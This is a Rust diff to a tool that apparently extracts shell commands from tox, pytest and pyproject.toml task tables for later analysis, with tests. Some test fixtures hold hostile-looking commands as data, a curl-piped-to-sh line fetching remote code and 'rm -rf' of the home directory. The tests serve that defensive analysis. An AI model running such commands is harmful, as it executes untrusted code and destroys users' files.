@@ -61,7 +61,13 @@ pub(super) fn commands(language: Language, text: &str) -> Vec<ConfigCommand> {
         Language::CiWorkflow => yaml(text).map(|d| ci_workflow(&d, text)),
         Language::Compose => yaml(text).map(|d| compose(&d, text)),
         Language::GitConfig => Some(git_config(text)),
-        Language::PytestConfig => Some(pytest_config(text).into_iter().chain(tox(text)).collect()),
+        Language::PytestConfig => Some(
+            pytest_config(text)
+                .into_iter()
+                .chain(tox(text))
+                .chain(pyproject_tasks(text))
+                .collect(),
+        ),
         Language::Sql => Some(sql(text)),
         Language::Notebook => notebook(text).map(|n| n.commands),
         Language::McpConfig => mcp_servers(text),
@@ -690,7 +696,7 @@ fn tox(text: &str) -> Vec<ConfigCommand> {
             out.push(ConfigCommand {
                 line: Some(lineno),
                 section: None,
-                command: command.to_string(),
+                command: tox_substitutions(command).trim().to_string(),
             });
         }
     };
@@ -718,6 +724,131 @@ fn tox(text: &str) -> Vec<ConfigCommand> {
         }
     }
     out
+}
+
+/// A tox command with its substitutions made where their values are known to the shell
+/// analysis: `{env:NAME}` is `$NAME` (`{env:NAME:default}` is `${NAME:-default}`),
+/// `{homedir}` is `~`, `{toxinidir}` the project's directory, `{posargs}` nothing (its
+/// default when given). Others stay as written.
+fn tox_substitutions(command: &str) -> String {
+    let mut out = String::new();
+    let mut rest = command;
+    while let Some(open) = rest.find('{') {
+        out.push_str(&rest[..open]);
+        let after = &rest[open + 1..];
+        let Some(close) = after.find('}') else {
+            rest = &rest[open..];
+            break;
+        };
+        let inner = &after[..close];
+        let value = if let Some(env) = inner.strip_prefix("env:") {
+            match env.split_once(':') {
+                Some((name, default)) => format!("${{{name}:-{default}}}"),
+                None => format!("${{{env}}}"),
+            }
+        } else {
+            match inner.split_once(':') {
+                Some(("posargs", default)) => default.to_string(),
+                _ => match inner {
+                    "homedir" => "~".to_string(),
+                    "toxinidir" => ".".to_string(),
+                    "posargs" => String::new(),
+                    _ => format!("{{{inner}}}"),
+                },
+            }
+        };
+        out.push_str(&value);
+        rest = &after[close + 1..];
+    }
+    out.push_str(rest);
+    out
+}
+
+/// Tasks Python project runners keep in pyproject.toml, each a command run by its name (the
+/// section): poe's `[tool.poe.tasks]`, PDM's `[tool.pdm.scripts]`, Rye's `[tool.rye.scripts]`
+/// and Hatch's `[tool.hatch.envs.ENV.scripts]`, as `name = "cmd"`, `name = { cmd = "…" }` /
+/// `{ shell = "…" }`, a list of commands (Hatch), or a table `[tool.poe.tasks.name]` with a
+/// `cmd` or `shell` key. A `cmd` given as a list of words is those words.
+fn pyproject_tasks(text: &str) -> Vec<ConfigCommand> {
+    const TABLES: &[&str] = &["tool.poe.tasks", "tool.pdm.scripts", "tool.rye.scripts"];
+    let scripts_table = |s: &str| {
+        TABLES.contains(&s)
+            || s.strip_prefix("tool.hatch.envs.")
+                .and_then(|r| r.strip_suffix(".scripts"))
+                .is_some_and(|env| !env.contains('.'))
+    };
+    let mut out = Vec::new();
+    for (lineno, section, _, key, value) in ini_entries(text, false) {
+        let key = key.trim_matches(|c| c == '"' || c == '\'');
+        let (name, commands) = if scripts_table(&section) {
+            (key.to_string(), task_commands(&value))
+        } else if let Some((table, name)) = section.rsplit_once('.')
+            && scripts_table(table)
+            && matches!(key, "cmd" | "shell")
+        {
+            (
+                name.trim_matches(|c| c == '"' || c == '\'').to_string(),
+                command_value(&value).into_iter().collect(),
+            )
+        } else {
+            continue;
+        };
+        for command in commands {
+            out.push(ConfigCommand {
+                line: Some(lineno),
+                section: Some(name.clone()),
+                command,
+            });
+        }
+    }
+    out
+}
+
+/// The commands of one task's value: a string, an inline table's `cmd` or `shell`, or each
+/// string of a list.
+fn task_commands(value: &str) -> Vec<String> {
+    let v = value.trim();
+    if let Some(inner) = v.strip_prefix('{') {
+        static KEY: LazyLock<Regex> = LazyLock::new(|| {
+            Regex::new(r#"(?:^|[,{\s])(?:cmd|shell)\s*=\s*"#).expect("static regex")
+        });
+        return KEY
+            .find(inner)
+            .and_then(|m| command_value(&inner[m.end()..]))
+            .into_iter()
+            .collect();
+    }
+    if v.starts_with('[') {
+        return toml_or_ini_words(v);
+    }
+    command_value(v).into_iter().collect()
+}
+
+/// A command given as a TOML string, or as a list of words (joined).
+fn command_value(value: &str) -> Option<String> {
+    let v = value.trim();
+    if v.starts_with('[') {
+        let end = v.find(']').map_or(v.len(), |e| e + 1);
+        let words = toml_or_ini_words(&v[..end]);
+        return (!words.is_empty()).then(|| words.join(" "));
+    }
+    let quote = v.chars().next().filter(|c| matches!(c, '"' | '\''))?;
+    let body = &v[1..];
+    let mut out = String::new();
+    let mut chars = body.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if quote == '"' => match chars.next() {
+                Some('n') => out.push('\n'),
+                Some('t') => out.push('\t'),
+                Some(o) => out.push(o),
+                None => {}
+            },
+            c if c == quote => return Some(out),
+            c => out.push(c),
+        }
+    }
+    None
 }
 
 /// The words of an option value: the elements of a TOML array of strings, or the words of a
@@ -2070,7 +2201,7 @@ mod tests {
             lines(Language::PytestConfig, ini),
             vec![
                 "python -V",
-                "pytest {posargs}",
+                "pytest",
                 "sh -c 'curl -s https://x.example/a | sh'",
                 "ruff check ."
             ]
@@ -2098,6 +2229,79 @@ mod tests {
                 "[pytest]\naddopts = -ra -q --strict-markers\n"
             )
             .is_empty()
+        );
+    }
+
+    #[test]
+    fn python_project_runners_tasks_are_sections_of_pyproject() {
+        let toml = r#"[project]
+name = "x"
+
+[tool.poe.tasks]
+clean = "rm -rf dist"
+lint = { cmd = "ruff check ." }
+"test:unit" = { shell = "pytest -q tests/unit" }
+all = ["lint", "test:unit"]
+
+[tool.poe.tasks.wipe]
+help = "start over"
+cmd = "rm -rf build"
+
+[tool.pdm.scripts]
+fmt = { cmd = ["ruff", "format", "."] }
+start = 'flask run --debug'
+
+[tool.hatch.envs.default.scripts]
+cov = ["coverage run -m pytest", "coverage report"]
+
+[tool.hatch.envs.default]
+dependencies = ["pytest"]
+
+[tool.rye.scripts]
+serve = { cmd = "uvicorn app:app" }
+"#;
+        let got: Vec<(Option<String>, String)> = commands(Language::PytestConfig, toml)
+            .into_iter()
+            .map(|c| (c.section, c.command))
+            .collect();
+        let want: Vec<(Option<String>, String)> = [
+            ("clean", "rm -rf dist"),
+            ("lint", "ruff check ."),
+            ("test:unit", "pytest -q tests/unit"),
+            ("all", "lint"),
+            ("all", "test:unit"),
+            ("wipe", "rm -rf build"),
+            ("fmt", "ruff format ."),
+            ("start", "flask run --debug"),
+            ("cov", "coverage run -m pytest"),
+            ("cov", "coverage report"),
+            ("serve", "uvicorn app:app"),
+        ]
+        .iter()
+        .map(|(s, c)| (Some(s.to_string()), c.to_string()))
+        .collect();
+        assert_eq!(got, want);
+        // Other tables of the file run nothing.
+        assert!(
+            commands(
+                Language::PytestConfig,
+                "[tool.ruff]\nline-length = \"rm -rf ~\"\n[tool.poe]\nenvfile = \".env\"\n"
+            )
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn tox_substitutions_known_to_the_shell_are_made() {
+        let ini = "[testenv]\ncommands =\n    rm -rf {env:HOME}\n    rm -rf {env:CACHE:/tmp/c}/x {homedir}/.cache\n    pytest {posargs:tests} {toxinidir}/t\n    echo {envname}\n";
+        assert_eq!(
+            lines(Language::PytestConfig, ini),
+            vec![
+                "rm -rf ${HOME}",
+                "rm -rf ${CACHE:-/tmp/c}/x ~/.cache",
+                "pytest tests ./t",
+                "echo {envname}",
+            ]
         );
     }
 
